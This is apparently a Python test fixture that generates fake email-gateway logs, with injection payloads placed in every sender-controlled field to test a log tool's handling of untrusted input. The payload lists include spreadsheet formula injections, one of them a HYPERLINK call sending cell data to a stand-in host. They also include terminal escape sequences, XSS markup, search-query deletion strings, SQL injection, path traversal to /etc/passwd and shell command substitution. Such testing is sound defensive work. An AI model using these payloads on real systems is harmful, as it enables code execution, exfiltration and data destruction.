"""A log in which a stranger chose every word that a stranger can choose."""

from __future__ import annotations

import json
import pathlib
from typing import TYPE_CHECKING

from tests import terminal

if TYPE_CHECKING:
    import subprocess
    from collections.abc import Sequence

ROOT = pathlib.Path(__file__).resolve().parents[2]

FORMULAS = (
    "=cmd|'/c calc'!A0",
    "@SUM(1+9)*cmd|'/c calc'!A0",
    "+1+cmd|'/c calc'!A0",
    "-1+cmd|'/c calc'!A0",
    '=HYPERLINK("https://fetched.example.net/?"&A1,"x")',
    "\uff1d1+1",
    "x;=cmd|'/c calc'!A0;@x",
    "\t=1+1",
    "\r=1+1",
)
TERMINAL = (
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x1b]8;;https://fetched.example.net\x07x\x1b]8;;\x07",
    "\x1b[2J\x1b[H",
    "\x1bP+q544e\x1b\\",
    "\x9b2J",
    "\x90x\x9c",
    "a\x08b\x7fc\x0bd\x0ce",
    "\u202egnp.exe",
    "\u2066a\u2069\u200eb\u200fc\u061cd",
    "\u2028a\u2029b\x85c",
)
MARKUP = (
    "<script>alert(1)</script>",
    '"><img src=https://fetched.example.net/x.png onerror=alert(1)>',
    "</style><style>*{background:url(https://fetched.example.net/y)}",
    "</title></head><body onload=alert(1)>",
    "javascript:alert(1)",
    "&lt;script&gt;",
    "[link=https://fetched.example.net]x[/link][/]",
    "{{7*7}}${7*7}%(x)s{0}<%= 7*7 %>#{7*7}",
)
QUERIES = (
    '" | delete | search "',
    "`esatls_index` | outputlookup x.csv",
    "$env:user$ $row.x$",
    '[| makeresults | map search="| delete"]',
    "* OR esatls.mid:*",
    '"}},{"delete":{"_index":"*"}}',
    "%{[@metadata][x]} %{IP:x} ${HOME}",
    "(a+)+$ [[:alpha:] (?<x>",
    "'; DROP TABLE x; --",
    "../../../etc/passwd",
    "$(touch x) `touch x` ; touch x | touch x & touch x",
    "\\",
    "a,b;c|d",
)
ALL = FORMULAS + TERMINAL + MARKUP + QUERIES

STAMP = "Wed Jul 20 19:47:4{} 2005 Info: "


def local_part(text: str) -> str:
    """Return a text as what stands before the @ of an address, in quotes where it would be none."""
    head = text.lstrip()
    return f'"{head}"' if head[:1] in ("<", ">") else head


def lines_of(text: str, number: int = 0) -> list[str]:
    """Return the log of one message with a text in every place that a stranger fills: names, addresses, answers, reasons, certificates, files."""
    word = "".join(text.split()) or "x"
    local, head = local_part(text), text.lstrip()  # what stands first: no address, reason or country begins with white space
    quoted = text.replace("'", "").replace('"', "")
    icid, dcid, mid = 5 + 10 * number, 6 + 10 * number, 1 + 10 * number
    return [
        STAMP.format(line[0]) + line[1:]
        for line in (
            f"0New SMTP ICID {icid} interface Data 1 (192.0.2.1) address 198.51.100.7 reverse dns host {word} verified no",
            f"0ICID {icid} ACCEPT SG {word} match {head} SBRS 1.0 country {head}",
            f"1ICID {icid} TLS failed: {head}",
            f"1Start MID {mid} ICID {icid}",
            f"1MID {mid} ICID {icid} From: <{local}@example.net>",
            f"1MID {mid} ICID {icid} RID 0 To: <{local}>",
            f"1MID {mid} ICID {icid} RID 1 To: <{local}@{word}>",
            f"1MID {mid} Subject '{text}'",
            f"1MID {mid} attachment '{text}'",
            f'2MID {mid} quarantined to "{quoted}" ({text})',
            f"3New SMTP DCID {dcid} interface 192.0.2.1 address 203.0.113.25 port 25",
            f"3DCID {dcid} TLS success protocol {word} cipher {word} CN: <{head}>",
            f"4Delivery start DCID {dcid} MID {mid} to RID [0, 1]",
            f"5Message done DCID {dcid} MID {mid} to RID [0] [('subject', '{text}'), ('from', '{text}')]",
            f"5MID {mid} RID [0] Response '2.0.0 {text}'",
            f"5Bounced: DCID {dcid} MID {mid} to RID 1 - {head} ('550', ['{text}'])",
            f"6Connection Error: DCID {dcid + 1} domain: {word} IP: 203.0.113.9 port: 25 details: {head} interface: 192.0.2.2 reason: {head}",
            f"7DCID {dcid + 2} TLS was required but {head}",
        )
    ]


def collected(text: str, number: int = 0) -> list[str]:
    """Return the same log as a collector's JSON, which names the appliance by the text, too."""
    return [json.dumps({"message": line, "host": text, "file": text}) for line in lines_of(text, number)]


def log_of(texts: Sequence[str] = ALL) -> bytes:
    """Return the logs of some texts, one after the other."""
    lines = [line for number, text in enumerate(texts) for line in lines_of(text, number)]
    return ("\n".join(lines) + "\n").encode("utf-8", "surrogateescape")


def collected_of(texts: Sequence[str] = ALL) -> bytes:
    """Return the logs of some texts in a collector's JSON; halves of surrogate pairs are among them."""
    lines = [line for number, text in enumerate([*texts, "\ud800x\udfff"]) for line in collected(text, number)]
    return ("\n".join(lines) + "\n").encode("ascii")


def run(*args: object, stdin: bytes = b"") -> subprocess.CompletedProcess[bytes]:
    """Run the command line."""
    return terminal.run(*args, stdin=stdin, env={"COLUMNS": "200"})
